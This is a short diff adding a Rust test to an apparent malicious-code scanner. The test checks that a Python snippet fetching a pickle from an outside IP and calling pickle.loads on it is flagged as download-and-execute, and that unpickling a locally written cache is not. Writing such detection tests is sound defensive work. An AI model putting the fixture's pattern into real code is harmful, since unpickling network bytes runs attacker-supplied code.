@@ -512,3 +512,17 @@ fn persistence_the_lists_did_not_name_is_found() {
         Rule::Persistence,
     );
 }
+
+#[test]
+fn unpickling_network_bytes_runs_them() {
+    caught(
+        "scripts/a.py",
+        "import pickle, requests\nresp = requests.get('https://203.0.113.7/cache.pkl')\ntable = pickle.loads(resp.content)\n",
+        Rule::DownloadExec,
+    );
+    // A cache the script wrote itself.
+    quiet(
+        "scripts/b.py",
+        "import pickle\nwith open('cache.pkl', 'rb') as f:\n    table = pickle.loads(f.read())\n",
+    );
+}
